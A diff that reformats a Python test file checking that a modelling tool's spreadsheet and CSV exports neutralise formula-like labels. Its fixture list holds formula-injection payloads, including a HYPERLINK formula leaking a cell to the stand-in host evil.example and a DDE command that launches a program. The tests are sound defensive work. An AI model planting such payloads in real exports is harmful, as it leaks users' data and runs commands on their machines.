@@ -25,9 +25,18 @@ from coproduce.reports.model_files import (
 
 from .mutations import base
 
-HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A9)",
-           "\tindented", "=1", "#N/A", " leading and trailing ", "=cmd|' /C calc'!A0",
-           "{dist: normal}"]
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+1+2",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\tindented",
+    "=1",
+    "#N/A",
+    " leading and trailing ",
+    "=cmd|' /C calc'!A0",
+    "{dist: normal}",
+]
 
 
 def _hostile_model() -> dict:
@@ -47,8 +56,12 @@ def _hostile_model() -> dict:
 def _formulas(path) -> list[str]:
     """The formulas in a workbook's XML (there should be none)."""
     with zipfile.ZipFile(path) as z:
-        return [m for name in z.namelist() if name.startswith("xl/worksheets/")
-                for m in re.findall(r"<f[ >].*?</f>", z.read(name).decode())]
+        return [
+            m
+            for name in z.namelist()
+            if name.startswith("xl/worksheets/")
+            for m in re.findall(r"<f[ >].*?</f>", z.read(name).decode())
+        ]
 
 
 def test_labels_that_look_like_formulas_round_trip_exactly(tmp_path):
@@ -58,11 +71,15 @@ def test_labels_that_look_like_formulas_round_trip_exactly(tmp_path):
     assert _formulas(path) == []
     back = load_model(path)
     assert model_to_data(back) == model_to_data(model)
-    assert [i.label for i in back.interventions.values()][:len(HOSTILE)] == HOSTILE
+    assert [i.label for i in back.interventions.values()][: len(HOSTILE)] == HOSTILE
     # a spreadsheet shows them as text: each is a string cell marked as quoted text
     ws = load_workbook(path)["interventions"]
-    cells = [c for row in ws.iter_rows(min_row=2) for c in row
-             if isinstance(c.value, str) and c.value.startswith(FORMULA_STARTS)]
+    cells = [
+        c
+        for row in ws.iter_rows(min_row=2)
+        for c in row
+        if isinstance(c.value, str) and c.value.startswith(FORMULA_STARTS)
+    ]
     assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)
 
 
@@ -81,8 +98,8 @@ def test_an_older_download_with_formula_labels_reads_back_their_text(tmp_path):
     write_model_xlsx(load_model("example:older-people"), path)
     wb = load_workbook(path)
     ws = wb["interventions"]
-    ws["B2"] = "=falls classes"          # a formula, saved with no value
-    ws["B3"] = '="computed"&" label"'   # a formula whose value the spreadsheet saved
+    ws["B2"] = "=falls classes"  # a formula, saved with no value
+    ws["B3"] = '="computed"&" label"'  # a formula whose value the spreadsheet saved
     wb.save(path)
     with zipfile.ZipFile(path) as z:
         parts = {n: z.read(n) for n in z.namelist()}
@@ -90,7 +107,8 @@ def test_an_older_download_with_formula_labels_reads_back_their_text(tmp_path):
     sheet = next(n for n, b in parts.items() if formula in b)
     # what a spreadsheet saves: the formula, and its value as text
     parts[sheet] = parts[sheet].replace(
-        formula, b'<c r="B3" t="str"><f>"computed"&amp;" label"</f><v>computed label</v></c>')
+        formula, b'<c r="B3" t="str"><f>"computed"&amp;" label"</f><v>computed label</v></c>'
+    )
     with zipfile.ZipFile(path, "w") as z:
         for n, b in parts.items():
             z.writestr(n, b)
@@ -102,8 +120,9 @@ def test_an_older_download_with_formula_labels_reads_back_their_text(tmp_path):
 @pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@x", "\tx", "\rx"])
 def test_csv_cells_that_could_be_formulas_get_a_quote(value):
     assert csv_text(value) == "'" + value
-    frame = pd.DataFrame({"label": [value, "fine", None], "n": [-1.5, 2, 3],
-                          value: ["x", "y", "z"]})
+    frame = pd.DataFrame(
+        {"label": [value, "fine", None], "n": [-1.5, 2, 3], value: ["x", "y", "z"]}
+    )
     safe = csv_safe(frame)
     assert list(safe["label"][:2]) == ["'" + value, "fine"] and pd.isna(safe["label"][2])
     assert list(safe["n"]) == [-1.5, 2, 3] and safe["n"].dtype == frame["n"].dtype
@@ -119,23 +138,24 @@ def test_text_only_cleans_a_workbook_built_elsewhere(tmp_path):
     path = tmp_path / "x.xlsx"
     wb.save(path)
     assert _formulas(path) == []
-    assert [c.value for c in load_workbook(path).active[1]] == ["=1+1", "-x", 3, "ok",
-                                                               "#REF!"]
+    assert [c.value for c in load_workbook(path).active[1]] == ["=1+1", "-x", 3, "ok", "#REF!"]
 
 
 @pytest.mark.parametrize("store", ["sqlite"], indirect=True)
 def test_a_download_uploaded_again_keeps_its_labels(world, web_factory):
     w = web_factory("a", "analyst")
-    model, _v = world.store.create_model(world.actor("a", "analyst"), "hostile",
-                                         _hostile_model())
+    model, _v = world.store.create_model(world.actor("a", "analyst"), "hostile", _hostile_model())
     for fmt in ("xlsx", "yaml", "json"):
         got = w.get(f"/models/{model.id}/download/{fmt}")
         assert got.status_code == 200
         if fmt == "xlsx":
             path_formulas = _formulas(io.BytesIO(got.content))
             assert path_formulas == []
-        again = w.post("/models", data={"csrf_token": w.csrf, "name": f"again {fmt}"},
-                       files={"file": (f"m.{fmt}", got.content, "application/octet-stream")})
+        again = w.post(
+            "/models",
+            data={"csrf_token": w.csrf, "name": f"again {fmt}"},
+            files={"file": (f"m.{fmt}", got.content, "application/octet-stream")},
+        )
         assert again.status_code == 303, again.text[:2000]
         new_id = int(again.headers["location"].split("/")[2].split("?")[0])
         stored = world.store.get_version(world.actor("a", "analyst"), new_id, 1).data
